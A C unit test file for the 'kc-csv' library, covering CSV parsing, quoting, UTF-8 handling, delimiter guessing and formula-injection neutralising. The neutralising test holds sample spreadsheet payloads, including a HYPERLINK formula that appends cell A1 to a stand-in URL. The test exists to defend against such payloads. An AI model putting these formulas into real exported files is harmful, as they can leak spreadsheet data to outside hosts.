/*
 * test-csv.c — the RFC 4180 reader and quoting of kc-csv.
 */
#include "kc-csv.h"
#include "kc-error.h"

#include <string.h>

/* Parses @text and checks the records against @expected: fields joined by
 * '|', records by '\n'; @lines the start line of each record. */
static void
expect_parse (const char *text, char delimiter, const char *expected, const guint *lines)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (GPtrArray) records = kc_csv_parse (text, -1, delimiter, &error);
  g_autoptr (GString) got = g_string_new (NULL);

  g_assert_no_error (error);
  g_assert_nonnull (records);
  for (guint i = 0; i < records->len; i++)
    {
      KcCsvRecord *r = records->pdata[i];
      g_autofree char *joined = g_strjoinv ("|", r->fields);
      if (i > 0)
        g_string_append_c (got, '\n');
      g_string_append (got, joined);
      g_assert_cmpuint (g_strv_length (r->fields), ==, r->n_fields);
      if (lines != NULL)
        g_assert_cmpuint (r->line, ==, lines[i]);
    }
  g_assert_cmpstr (got->str, ==, expected);
}

static void
test_simple (void)
{
  static const guint lines[] = { 1, 2 };
  expect_parse ("a,b,c\n1,2,3\n", ',', "a|b|c\n1|2|3", lines);
  expect_parse ("a,b,c\r\n1,2,3\r\n", ',', "a|b|c\n1|2|3", lines);
  expect_parse ("a,b,c\r\n1,2,3", ',', "a|b|c\n1|2|3", lines);
  expect_parse ("", ',', "", NULL);
  expect_parse ("a,,c\n,,\n", ',', "a||c\n||", NULL);
  expect_parse ("a,b,\n", ',', "a|b|", NULL);
  expect_parse ("a,b,", ',', "a|b|", NULL);
  expect_parse ("a;b\n1;2\n", ';', "a|b\n1|2", NULL);
}

static void
test_quoted (void)
{
  static const guint lines[] = { 1, 2, 5 };
  expect_parse ("\"a,b\",\"say \"\"hi\"\"\"\n", ',', "a,b|say \"hi\"", NULL);
  expect_parse ("h1,h2\n\"line1\nline2\r\nline3\",x\nlast,y\n", ',',
                "h1|h2\nline1\nline2\r\nline3|x\nlast|y", lines);
  expect_parse ("\"\",x\n", ',', "|x", NULL);
  expect_parse ("\"\"", ',', "", NULL);
  expect_parse ("\"a\"\r\n\"b\"", ',', "a\nb", NULL);
}

static void
test_bom_blank_utf8 (void)
{
  static const guint lines[] = { 1, 3 };
  expect_parse ("\xEF\xBB\xBFTên đề án,Mục tiêu\n\nLàng nghề,\"Nâng cao, mở rộng\"\n", ',',
                "Tên đề án|Mục tiêu\nLàng nghề|Nâng cao, mở rộng", lines);
}

static void
expect_error (const char *text, gssize len, const char *fragment)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (GPtrArray) records = kc_csv_parse (text, len, ',', &error);

  g_assert_null (records);
  g_assert_error (error, KC_PROTOCOL_ERROR, KC_ERROR_INVALID_PARAMS);
  if (strstr (error->message, fragment) == NULL)
    g_error ("\"%s\" lacks \"%s\"", error->message, fragment);
}

static void
test_errors (void)
{
  expect_error ("a,b\n\"open\n", -1, "line 2: a quoted field is not closed");
  expect_error ("a,\"b\"x\n", -1, "line 1: text after the closing quote");
  expect_error ("a\nb\"c\n", -1, "line 2: a quote inside a field");
  expect_error ("a\n\xC3\x28\n", -1, "line 2: the file is not valid UTF-8");
  expect_error ("a\0b", 3, "not valid UTF-8");
}

static void
test_guess (void)
{
  g_assert_cmpint (kc_csv_guess_delimiter ("a;b;c\n1,5;2", -1), ==, ';');
  g_assert_cmpint (kc_csv_guess_delimiter ("a,b;c\n", -1), ==, ',');
  g_assert_cmpint (kc_csv_guess_delimiter ("\"a;b\",c\n", -1), ==, ',');
  g_assert_cmpint (kc_csv_guess_delimiter ("abc", -1), ==, ',');
}

static void
test_quote_round_trip (void)
{
  static const char *const values[] = { "plain",      "",           "a,b",
                                        "say \"hi\"", "two\nlines", "cr\r\nlf",
                                        " padded ",   "Tên đề án",  NULL };
  g_autoptr (GString) line = g_string_new (NULL);
  g_autoptr (GError) error = NULL;
  g_autoptr (GPtrArray) records = NULL;
  KcCsvRecord *r;

  {
    g_autofree char *plain = kc_csv_quote ("plain", ',');
    g_assert_cmpstr (plain, ==, "plain");
  }
  for (gsize i = 0; values[i] != NULL; i++)
    {
      g_autofree char *q = kc_csv_quote (values[i], ',');
      if (i > 0)
        g_string_append_c (line, ',');
      g_string_append (line, q);
    }
  g_string_append (line, "\r\n");
  records = kc_csv_parse (line->str, -1, ',', &error);
  g_assert_no_error (error);
  g_assert_cmpuint (records->len, ==, 1);
  r = records->pdata[0];
  g_assert_cmpuint (r->n_fields, ==, g_strv_length ((char **)values));
  for (gsize i = 0; values[i] != NULL; i++)
    g_assert_cmpstr (r->fields[i], ==, values[i]);
}

/* Formula injection (issue 13): text that a spreadsheet would run. */
static void
test_neutralise (void)
{
  static const char *const cases[][2] = {
    { "=HYPERLINK(\"http://x\"&A1,\"Chi tiết\")", "'=HYPERLINK(\"http://x\"&A1,\"Chi tiết\")" },
    { "+1+1", "'+1+1" },
    { "-2+3", "'-2+3" },
    { "@SUM(A1)", "'@SUM(A1)" },
    { "\t=1", "'\t=1" },
    { "\r=1", "'\r=1" },
    { "Tên đề án", "Tên đề án" },
    { "", "" },
    { "a=b", "a=b" },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *out = kc_csv_neutralise (cases[i][0]);
      g_assert_cmpstr (out, ==, cases[i][1]);
    }
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/csv/simple", test_simple);
  g_test_add_func ("/csv/quoted", test_quoted);
  g_test_add_func ("/csv/bom-blank-utf8", test_bom_blank_utf8);
  g_test_add_func ("/csv/errors", test_errors);
  g_test_add_func ("/csv/guess-delimiter", test_guess);
  g_test_add_func ("/csv/quote-round-trip", test_quote_round_trip);
  g_test_add_func ("/csv/neutralise", test_neutralise);
  return g_test_run ();
}
